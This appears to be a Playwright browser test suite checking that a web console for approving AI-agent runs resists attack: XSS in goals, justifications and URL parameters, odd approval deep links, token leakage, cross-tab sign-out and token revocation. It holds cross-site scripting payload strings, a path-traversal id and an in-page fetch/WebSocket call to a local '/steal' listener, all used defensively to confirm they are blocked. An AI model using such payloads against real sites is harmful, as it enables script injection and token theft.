import { readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { dirname, join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { browserSuite, closeConsole, type ConsoleServer, newPerson, openConsole, PEOPLE, screenshot, signIn } from './harness.js';

const START = `mutation($input: StartRunInput!) { startRun(input: $input) { runId steps { id approvalId } } }`;
const APPROVE = `mutation($id: ID!, $j: String) { approve(input: { approvalId: $id, justification: $j }) { approval { status } } }`;
const EVENTS = `query($id: ID!) { runEvents(runId: $id, first: 100) { edges { node { id } } } }`;

// Each payload marks what it would inject with id="pwn…", so an element that reached the DOM as
// markup is found even where the CSP would stop its script; a script that runs sets window.__xss.
const GOAL = '<img id=pwn1 src=x onerror="window.__xss=1;alert(1)"><script>window.__xss=2</script>';
const VERSION = '"><svg id=pwn2 onload=window.__xss=3>'; // the tool's output echoes it too
const JUSTIFICATION = 'javascript:alert(1)//<b id=pwn3 onmouseover=window.__xss=4>x</b>';


describe.skipIf(browserSuite === 'skip')('console as an attacker sees it (real Chromium against the built server)', () => {
  let server: ConsoleServer;
  let browser: Browser;
  let origin: string;

  beforeAll(async () => void ({ server, browser, origin } = await openConsole({ restartable: true })), 90_000);
  afterAll(() => closeConsole({ server, browser }));

  async function gatedRun(goal: string, version: string): Promise<{ runId: string; approvalId: string }> {
    const r = await server.gql<{ startRun: { runId: string; steps: Array<{ approvalId: string | null }> } }>(PEOPLE.alice.token, START, {
      input: { goal, profile: 'enterprise', steps: [{ id: 'ship', tool: 'deploy.release', domain: 'deploys', input: { environment: 'staging', version } }] },
    });
    expect(r.errors, JSON.stringify(r.errors)).toBeUndefined();
    return { runId: r.data!.startRun.runId, approvalId: r.data!.startRun.steps[0]!.approvalId! };
  }

  /** Nothing the payloads hold ran or became markup on this page. */
  async function nothingInjected(page: Page, where: string, dialogs: string[]): Promise<void> {
    expect(await page.evaluate('window.__xss'), where).toBeUndefined();
    expect(await page.evaluate("document.querySelectorAll('#pwn1, #pwn2, #pwn3, script:not([src])').length"), where).toBe(0);
    expect(dialogs, where).toEqual([]);
  }

  it('HTML and script in a goal, a tool input and output, and a justification render as text on every screen; nothing runs', async () => {
    const pending = await gatedRun(GOAL, VERSION);
    const done = await gatedRun(GOAL, VERSION);
    const approved = await server.gql(PEOPLE.bob.token, APPROVE, { id: done.approvalId, j: JUSTIFICATION });
    expect(approved.errors, JSON.stringify(approved.errors)).toBeUndefined();

    const { context, page } = await newPerson(browser);
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await signIn(page, origin, PEOPLE.bob.token, '/approvals');
    // each screen, and the text that proves the payload reached it (as text)
    const screens: Array<[string, string | undefined]> = [
      ['/approvals', GOAL],
      [`/approvals/${encodeURIComponent(pending.approvalId)}`, GOAL],
      ['/runs', GOAL],
      [`/runs/${encodeURIComponent(pending.runId)}`, GOAL],
      [`/runs/${encodeURIComponent(done.runId)}`, JUSTIFICATION],
      ['/budgets', undefined],
      ['/signals', undefined],
      // addresses an attacker writes: query parameters the screens read back into fields and queries
      [`/runs?requester=${encodeURIComponent(GOAL)}&profile=${encodeURIComponent(VERSION)}&status=${encodeURIComponent(GOAL)}`, undefined],
      [`/budgets?runId=${encodeURIComponent(GOAL)}`, undefined],
      [`/signals?scope=${encodeURIComponent(`tool:${GOAL}`)}&window=${encodeURIComponent(VERSION)}`, undefined],
      [`/runs/${encodeURIComponent(GOAL)}`, undefined],
    ];
    for (const [path, shown] of screens) {
      await page.goto(`${origin}${path}`);
      await page.getByTestId('who').waitFor();
      if (shown) await expect.poll(() => page.locator('body').innerText(), { timeout: 20_000 }).toContain(shown);
      await page.locator('main, [role=main], #root').first().hover(); // mouse events for on* handlers
      await nothingInjected(page, path, dialogs);
    }
    // the trace's event data (input and output) opened on the finished run
    await page.goto(`${origin}/runs/${encodeURIComponent(done.runId)}`);
    await expect.poll(() => page.locator('body').innerText(), { timeout: 20_000 }).toContain('RunCompleted');
    for (const details of await page.locator('details').all()) await details.click().catch(() => undefined);
    await nothingInjected(page, 'trace data', dialogs);
    await screenshot(page, 'attacker-xss-run-page');
    await context.close();
  }, 120_000);

  it('a deep link with an odd approval id decides nothing by itself and runs nothing', async () => {
    const { runId, approvalId } = await gatedRun('deep link target', '2.0');
    const before = (await server.gql<{ runEvents: { edges: unknown[] } }>(PEOPLE.bob.token, EVENTS, { id: runId })).data!.runEvents.edges.length;
    const { context, page } = await newPerson(browser);
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await signIn(page, origin, PEOPLE.bob.token, '/approvals');
    const odd = [
      `/approvals/${approvalId}`, // unencoded slashes
      `/approvals/${encodeURIComponent(approvalId)}?approve=1#a`,
      '/approvals/%3Cimg%20id%3Dpwn1%20src%3Dx%20onerror%3Dalert(1)%3E',
      '/approvals/..%2F..%2Fgraphql',
      '/approvals/javascript:alert(1)',
      `/approvals/${'x'.repeat(2_000)}`,
    ];
    for (const path of odd) {
      await page.goto(`${origin}${path}`);
      await page.getByTestId('who').waitFor();
      await page.keyboard.press('a'); // the approve key, without choosing a card
      await nothingInjected(page, path, dialogs);
    }
    const after = (await server.gql<{ runEvents: { edges: unknown[] } }>(PEOPLE.bob.token, EVENTS, { id: runId })).data!.runEvents.edges.length;
    expect(after).toBe(before);
    await context.close();
  }, 90_000);

  it('the token never appears in a URL, a Referer, localStorage or the page\'s console; sign-out closes the WebSocket', async () => {
    const { context, page } = await newPerson(browser);
    const seen: string[] = [];
    page.on('request', (r) => seen.push(r.url(), r.headers().referer ?? ''));
    page.on('console', (m) => seen.push(m.text()));
    // Counted inside the page (Playwright's own WebSocket events do not see every close): each socket
    // this document opened, and whether it is still open.
    await page.addInitScript(`{
      const Native = window.WebSocket;
      window.__sockets = [];
      window.WebSocket = class extends Native { constructor(...a) { super(...a); window.__sockets.push(this); } };
    }`);
    const open = () => page.evaluate<number>('window.__sockets.filter((s) => s.readyState < 2).length');
    const urls = () => page.evaluate<string[]>('window.__sockets.map((s) => s.url)');
    await signIn(page, origin, PEOPLE.carol.token, '/approvals');
    await page.goto(`${origin}/runs`);
    await page.getByTestId('who').waitFor();
    await expect.poll(open, { timeout: 20_000 }).toBe(1);
    expect(await page.evaluate('localStorage.length')).toBe(0);
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByLabel('Token').waitFor();
    // CLOSED (3), not only CLOSING: the close handshake finished, so the server saw it go
    await expect.poll(() => page.evaluate<number>('window.__sockets.filter((s) => s.readyState !== 3).length'), { timeout: 20_000 }).toBe(0);
    expect((await urls()).filter((u) => u.includes(PEOPLE.carol.token))).toEqual([]);
    expect(seen.filter((s) => s.includes(PEOPLE.carol.token))).toEqual([]);
    await context.close();
  }, 90_000);

  it('the page may open no WebSocket and no request to another host, so an injected script could not send the token away', async () => {
    const { context, page } = await newPerson(browser);
    await signIn(page, origin, PEOPLE.bob.token, '/approvals');
    // a listener on another port of the same machine: any connection that reaches it is a leak
    const listener = createServer((socket) => { reached.push('tcp'); socket.destroy(); });
    const reached: string[] = [];
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    const port = (listener.address() as { port: number }).port;
    try {
      const blocked = await page.evaluate<string[]>(`new Promise((resolve) => {
        const seen = [];
        document.addEventListener('securitypolicyviolation', (e) => { seen.push(e.violatedDirective); if (seen.length === 2) resolve(seen); });
        try { new WebSocket('ws://127.0.0.1:${port}/steal'); } catch { seen.push('connect-src (thrown)'); }
        fetch('http://127.0.0.1:${port}/steal', { method: 'POST', body: 'x' }).catch(() => undefined);
        setTimeout(() => resolve(seen), 5000);
      })`);
      expect(blocked.sort()).toEqual(['connect-src', 'connect-src']);
      expect(reached).toEqual([]);
      // the console's own socket (same origin) still connects under the same policy
      await expect.poll(() => page.locator('header .connection').textContent(), { timeout: 20_000 }).toBe('live');
    } finally {
      await new Promise<void>((resolve) => listener.close(() => resolve()));
    }
    await context.close();
  }, 60_000);

  it('sign-out in one tab signs out the other tabs of the browser too, and closes their WebSockets', async () => {
    const { context, page: first } = await newPerson(browser);
    const second = await context.newPage(); // its own sessionStorage: it signs in on its own
    await second.addInitScript(`{
      const Native = window.WebSocket;
      window.__sockets = [];
      window.WebSocket = class extends Native { constructor(...a) { super(...a); window.__sockets.push(this); } };
    }`);
    await signIn(first, origin, PEOPLE.bob.token, '/approvals');
    await signIn(second, origin, PEOPLE.carol.token, '/runs');
    await expect.poll(() => second.locator('header .connection').textContent(), { timeout: 20_000 }).toBe('live');
    await first.getByRole('button', { name: 'Sign out' }).click();
    await first.getByLabel('Token').waitFor();
    await second.getByLabel('Token').waitFor({ timeout: 20_000 });
    expect(await second.getByRole('alert').textContent()).toMatch(/signed out in another tab/i);
    expect(await second.evaluate('sessionStorage.length')).toBe(0);
    await expect.poll(() => second.evaluate<number>('window.__sockets.filter((s) => s.readyState !== 3).length'), { timeout: 20_000 }).toBe(0);
    await context.close();
  }, 60_000);

  it('a token revoked mid-session (config change and restart) signs the tab out and says why, instead of reconnecting forever', async () => {
    const { context, page } = await newPerson(browser);
    await signIn(page, origin, PEOPLE.dave.token, '/approvals');
    await expect.poll(() => page.getByTestId('who').textContent()).toMatch(/dave/);
    const config = join(dirname(server.dataDir), 'gatehouse.yaml');
    const original = readFileSync(config, 'utf8');
    writeFileSync(config, original.split('\n').filter((line) => !line.includes(PEOPLE.dave.token)).join('\n'));
    try {
      await server.servers.stop();
      await server.servers.start();
      await expect.poll(() => page.getByRole('alert').textContent().catch(() => ''), { timeout: 60_000 }).toMatch(/refused your token/);
      await page.getByLabel('Token').waitFor();
      expect(await page.evaluate('sessionStorage.length')).toBe(0);
      await screenshot(page, 'attacker-token-revoked');
    } finally {
      writeFileSync(config, original);
      await server.servers.stop();
      await server.servers.start();
    }
    await context.close();
  }, 150_000);
});
